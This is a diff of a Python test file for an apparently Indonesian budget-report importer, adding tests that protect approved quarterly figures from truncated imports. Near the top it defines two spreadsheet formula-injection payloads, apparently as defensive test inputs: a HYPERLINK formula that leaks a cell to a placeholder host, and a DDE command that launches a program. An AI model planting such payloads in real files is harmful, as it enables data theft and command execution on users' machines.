@@ -16,10 +16,12 @@ from sqlmodel import select
 
 from storage.data.db import read_scope, session_scope
 from storage.data.models import Narasi, Realisasi
+from storage.files.demo import SEED_FILE
 from storage.files.export import export_bytes
-from storage.files.importer import import_file
+from storage.files.importer import ImportRefused, import_file
 from storage.files.report_parser import MAX_FILE_BYTES, MAX_LINES, BadFileError, read_lines
-from tests.test_importer import _snapshot
+from storage.services.queries import summary
+from tests.test_importer import _reopen_all, _snapshot
 
 HYPERLINK = '=HYPERLINK("http://example.invalid/?d="&A1,"Klik di sini")'
 DDE = "=cmd|' /C calc'!A0"
@@ -155,3 +157,73 @@ def test_junk_text_is_refused_before_it_is_parsed(
     with pytest.raises(BadFileError, match="baris 2 berisi 501 kolom"):
         import_file(seeded, tabs)
     assert _snapshot(seeded) == before
+
+
+# --- imports never shrink or change an approved quarter ------------------------------------
+
+
+def _tw3_figures(engine: Engine) -> tuple[int, int]:
+    with read_scope(engine) as s:
+        rows = s.exec(select(Realisasi).where(Realisasi.triwulan == 3)).all()
+        with_figure = [r for r in rows if r.anggaran is not None or r.fisik is not None]
+        return len(with_figure), summary(s, 1, 2022, 3).total.realisasi or 0
+
+
+def _truncated(tmp_path: Path) -> Path:
+    lines = SEED_FILE.read_text(encoding="utf-8").splitlines(keepends=True)
+    path = tmp_path / "t.txt"
+    path.write_text("".join(lines[:150]), encoding="utf-8")
+    return path
+
+
+def test_a_truncated_file_never_replaces_an_approved_quarter(
+    seeded: Engine, tmp_path: Path
+) -> None:
+    before = _snapshot(seeded)
+    rows, rupiah = _tw3_figures(seeded)
+    assert rows == 52 and rupiah == 4_346_239_038
+    with pytest.raises(ImportRefused) as refused:
+        import_file(seeded, _truncated(tmp_path))
+    text = str(refused.value)
+    assert "TW III 2022 sudah disetujui untuk bidang" in text and "/bukakembali" in text
+    assert "kurang lengkap" in text and "--ganti" in text
+    assert "Perdagangan (disetujui): 14 → 0 baris berangka, Rp 433.022.122 → belum lengkap" in text
+    # Not even --ganti touches an approved quarter.
+    with pytest.raises(ImportRefused, match="sudah disetujui"):
+        import_file(seeded, _truncated(tmp_path), replace=True)
+    assert _snapshot(seeded) == before
+
+
+def test_dry_run_shows_the_diff_and_writes_nothing(seeded: Engine, tmp_path: Path) -> None:
+    _reopen_all(seeded, 2022, 3)
+    before = _snapshot(seeded)
+    result = import_file(seeded, _truncated(tmp_path), dry_run=True)
+    text = "\n".join(result.lines())
+    assert "Uji coba impor (tidak ada yang disimpan)" in text
+    assert "Perubahan TW III 2022 per bidang:" in text
+    assert "Perindustrian: 8 → 0 baris berangka, Rp 671.003.145 → belum lengkap" in text
+    assert "Impor sungguhan akan DITOLAK" in text and "kurang lengkap" in text
+    assert _snapshot(seeded) == before
+    # Reopened but still less complete: refused without --ganti ...
+    with pytest.raises(ImportRefused, match="kurang lengkap"):
+        import_file(seeded, _truncated(tmp_path))
+    assert _snapshot(seeded) == before
+    # ... and replaced with it, as the operator asked after seeing the diff.
+    done = import_file(seeded, _truncated(tmp_path), replace=True)
+    assert done.reports[1].status == "diganti"
+    assert _tw3_figures(seeded)[0] == 21
+
+
+def test_a_complete_corrected_copy_replaces_a_reopened_quarter(
+    seeded: Engine, tmp_path: Path
+) -> None:
+    text = SEED_FILE.read_text(encoding="utf-8")
+    fixed = tmp_path / "koreksi.txt"
+    fixed.write_text(text.replace("3,064,862,971.00", "3,064,862,000.00"), encoding="utf-8")
+    with pytest.raises(ImportRefused, match="Sekretariat"):
+        import_file(seeded, fixed)
+    _reopen_all(seeded, 2022, 3)
+    result = import_file(seeded, fixed)
+    assert [r.status for r in result.reports] == ["tidak berubah", "diganti", "tidak berubah"]
+    assert [c.bidang for c in result.reports[1].changes if c.figures_changed] == ["Sekretariat"]
+    assert _tw3_figures(seeded)[0] == 52
